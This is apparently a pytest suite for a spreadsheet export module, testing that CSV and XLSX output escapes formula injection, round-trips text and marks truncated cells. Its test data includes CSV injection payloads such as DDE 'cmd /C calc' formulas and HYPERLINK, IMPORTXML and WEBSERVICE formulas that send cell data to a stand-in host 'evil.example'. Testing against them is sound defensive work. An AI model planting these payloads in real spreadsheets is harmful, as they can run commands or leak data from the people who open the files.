"""Tables for spreadsheets: never a formula, never a silent cut, every text back as it was, the same twice."""

from __future__ import annotations

import csv as csv_format
import io
import re
import zipfile
from dataclasses import replace
from decimal import Decimal
from typing import TYPE_CHECKING

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.report.payloads import PAYLOADS
from workbench.errors import CaseError
from workbench.model.catalogue import Translator
from workbench.report.exports import About, escape_formula, escape_unseen, unescape_formula, unescape_unseen
from workbench.report.exports.text_tables import to_csv, to_tsv
from workbench.report.exports.workbook import CELL_LIMIT, to_xlsx

if TYPE_CHECKING:
    from openpyxl.cell import Cell

FORMULAE = (
    "=1+1", "+44 7700 900142", "-2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x", "=cmd|' /C calc'!A0", "'=1",
    "''=1", '"=1', " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u202e=1", "\u2066=1", " '\" =1", "=", "'", "''", "'plain",
    '=HYPERLINK("https://evil.example?x="&A1,"open")', '=IMPORTXML("https://evil.example","//a")', "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', '=WEBSERVICE("https://evil.example")',
    "%0A=1", "x;=1+1;y", "x\n=1+1", "x\t=1", "x; '=1", "x;;=1\n\n-2", "a, =1", '",=1,"', '"\r\n=1', "plain; text", "mailto:a@b.example",
    "https://evil.example/=1", "javascript:alert(1)", "file:///etc/passwd", "\\\\evil.example\\share", "\x00=1", "\x1b]0;=1\x07",
    "_x003D_1", "_x000D_=1", "_xZZZZ_", "⟨U+003D⟩1", "⟨U+27E8⟩", "⟨⟨U+202E⟩", "\u202ecod.exe", "\ud800", "\ud83d\ude00", "\ufffe",
    "\x85=1", "\u2028=1", "#REF!", "#N/A", "TRUE", "1e5", "007", "2024-03-01", "12:00", "\u0661=1", "😀=1", " ", "", "\n", "\r\n", "\t",
)  # fmt: skip
TEXTS = tuple(dict.fromkeys([*FORMULAE, *PAYLOADS]))
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")
CLEAN = st.text(st.characters(codec="utf-8"))
HARD = st.text(
    st.sampled_from([*"='\"; \t\n\r+-@,＝_x0D⟨U+2E⟩", "\u202e", "\u200b", "\x00", "\ud800", "a"]), max_size=12
)
ABOUT = About(title="Harbour", mark="EXERCISE", officer="ada", what="hits", rows=1, notes=("=1+1",))


def cells(data: bytes, mark: str = ",") -> list[list[str]]:
    return list(csv_format.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=mark))


def sheet(data: bytes, name: str = "Data") -> list[list[Cell]]:
    return [list(row) for row in load_workbook(io.BytesIO(data))[name].iter_rows()]


def column(texts: list[str]) -> pd.DataFrame:
    return pd.DataFrame({"a": pd.Series(texts, dtype=object), "n": range(len(texts))})


def test_there_are_enough_payloads() -> None:
    assert len(TEXTS) >= 60


@pytest.mark.parametrize("text", FORMULAE)
def test_no_cell_of_a_csv_begins_a_formula(text: str) -> None:
    (written,) = (row[0] for row in cells(to_csv(column([text])))[1:])
    assert not written.lstrip(" \u00a0\u200b\ufeff\u2066\"'").startswith(DANGEROUS) or written.startswith("'")
    assert not written.startswith(DANGEROUS)
    assert unescape_formula(written) == text


@pytest.mark.parametrize("mark", ["\t", ";", "\n"])
def test_neither_does_what_another_separator_would_make_of_it(mark: str) -> None:
    """A spreadsheet whose cells end at semicolons tears the text of one cell into several."""
    text = f'x{mark}=cmd{mark}"=1{mark} -2{mark}end'
    pieces = re.split(r"[;\t\r\n]", to_csv(column([text])).decode("utf-8-sig"))
    assert "'=cmd" in pieces and not [piece for piece in pieces if piece.lstrip(' "').startswith(DANGEROUS)]


@pytest.mark.parametrize("write", [to_csv, to_tsv])
def test_every_payload_comes_back_from_text(write: object) -> None:
    data = write(column(list(TEXTS)))  # type: ignore[operator]
    rows = cells(data, "\t" if write is to_tsv else ",")
    assert [unescape_formula(row[0]) for row in rows[1:]] == list(TEXTS)
    assert [row[1] for row in rows[1:]] == [str(number) for number in range(len(TEXTS))]


def test_every_payload_comes_back_from_a_workbook() -> None:
    data = to_xlsx(column(list(TEXTS)), ABOUT)
    rows = sheet(data)
    found = {cell.data_type for row in [*rows, *sheet(data, "About")] for cell in row}
    assert found <= {"s", "n"} and not [cell for row in rows for cell in row if cell.hyperlink]
    assert {row[0].data_type for row in rows if row[0].value is not None} == {"s"}
    assert [unescape_unseen(row[0].value or "") for row in rows[1:]] == list(TEXTS)
    assert [row[1].value for row in rows[1:]] == list(range(len(TEXTS)))


def test_a_workbook_holds_no_link_and_no_formula_in_its_parts() -> None:
    with zipfile.ZipFile(io.BytesIO(to_xlsx(column(list(TEXTS)), ABOUT))) as parts:
        text = b"".join(parts.read(name) for name in parts.namelist() if "sheet" in name)
        assert (
            b"<f>" not in text and b"<f " not in text and b"hyperlink" not in text.lower().replace(b"=hyperlink(", b"")
        )
        assert not [name for name in parts.namelist() if "external" in name.lower()]


@settings(max_examples=500, deadline=None)
@given(st.one_of(CLEAN, HARD))
def test_the_guard_can_be_taken_off(text: str) -> None:
    assert unescape_formula(escape_formula(text)) == text
    assert unescape_unseen(escape_unseen(text)) == text
    assert not escape_formula(text).startswith(DANGEROUS)


@pytest.mark.slow
@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(CLEAN, HARD), min_size=1, max_size=8))
def test_texts_come_back(texts: list[str]) -> None:
    assert [unescape_formula(row[0]) for row in cells(to_csv(column(texts)))[1:]] == texts
    assert [unescape_unseen(row[0].value or "") for row in sheet(to_xlsx(column(texts), ABOUT))[1:]] == texts


def test_the_guard_takes_time_in_proportion() -> None:
    for piece in ("\n", ";", " ", "'", "; ", "\n ", "=", "⟨", "_x"):
        text = piece * 200_000
        assert unescape_formula(escape_formula(text)) == text


def test_names_of_columns_are_guarded() -> None:
    frame = pd.DataFrame({"=A1": [1]})
    assert cells(to_csv(frame))[0] == ["'=A1"]
    assert [(cell.value, cell.data_type) for cell in sheet(to_xlsx(frame, ABOUT))[0]] == [("=A1", "s")]


def test_values_keep_their_kind() -> None:
    frame = pd.DataFrame(
        {
            "n": [np.int64(-3)],
            "x": [float("nan")],
            "l": [["a", {"b": 1}]],
            "b": [np.bool_(True)],
            "t": [pd.Timestamp("2026-01-01")],
            "o": [None],
            "d": [Decimal("-12.50")],
            "m": [pd.NaT],
            "s": [{"b", "a"}],
            "big": [490154203237518123],
            "inf": [float("inf")],
        }
    )
    text = '-3,,"[""a"", {""b"": 1}]",True,2026-01-01 00:00:00,,-12.5,,"[""a"", ""b""]",490154203237518123,inf'
    assert to_csv(frame).decode("utf-8-sig").splitlines()[1] == text
    row = [cell.value for cell in sheet(to_xlsx(frame, ABOUT))[1]]
    assert row == [
        -3, None, '["a", {"b": 1}]', True, "2026-01-01 00:00:00", None, -12.5, None, '["a", "b"]', "490154203237518123", "inf",
    ]  # fmt: skip


def test_an_index_that_says_something_is_kept() -> None:
    assert cells(to_csv(pd.DataFrame({"n": [1]}, index=pd.Index(["x"]))))[1] == ["x", "1"]
    assert cells(to_csv(pd.DataFrame({"n": [1, 2]}).iloc[1:]))[1] == ["2"]
    assert cells(to_csv(pd.DataFrame({"n": [1]}, index=pd.Index([7], name="hour"))))[0] == ["hour", "n"]


def test_a_cut_is_said() -> None:
    data = to_xlsx(pd.DataFrame({"a": ["x" * 40_000, "😀" * 20_000]}), ABOUT)
    for row in sheet(data)[1:]:
        assert len(row[0].value.encode("utf-16-le")) // 2 <= CELL_LIMIT
        assert row[0].value.endswith("[shortened here: the cell is full. A CSV export contains the full text]")
    assert [
        "note",
        "Spreadsheet cells shortened because their text is too long for a workbook: 2. "
        "Each of these cells shows that it was shortened.",
    ] in [[cell.value for cell in row] for row in sheet(data, "About")]


def test_a_cut_is_said_in_the_language_of_the_export() -> None:
    data = to_xlsx(pd.DataFrame({"a": ["x" * 40_000]}), replace(ABOUT, say=Translator("es")))
    assert sheet(data)[1][0].value.endswith(
        "[texto abreviado aquí: la celda está llena. Una exportación en CSV contiene el texto entero]"
    )


def test_what_is_too_long_or_wide_for_a_sheet_is_refused() -> None:
    with pytest.raises(CaseError, match=r"Export the table as `\.csv`, or make it smaller first"):
        to_xlsx(pd.DataFrame({"a": np.zeros(1_048_576, dtype=np.int8)}), ABOUT)
    with pytest.raises(CaseError, match="16,385 columns"):
        to_xlsx(pd.DataFrame(np.zeros((1, 16_385))), ABOUT)


def test_the_first_sheet_says_what_it_is() -> None:
    data = to_xlsx(pd.DataFrame({"a": ["=1"]}), ABOUT)
    assert load_workbook(io.BytesIO(data)).sheetnames == ["About", "Data"]
    told = {row[0].value: row[1] for row in sheet(data, "About")}
    assert (told["case"].value, told["marking"].value, told["rows"].value) == ("Harbour", "EXERCISE", "1")
    assert (told["note"].value, told["note"].data_type) == ("=1+1", "s")
    assert len(told["SHA-256 of the table as CSV"].value) == 64


def test_the_same_table_gives_the_same_bytes() -> None:
    frame = pd.DataFrame({"a": ["=1", "b"]})
    assert to_xlsx(frame, ABOUT) == to_xlsx(frame, ABOUT)
    assert to_csv(frame) == to_csv(frame)
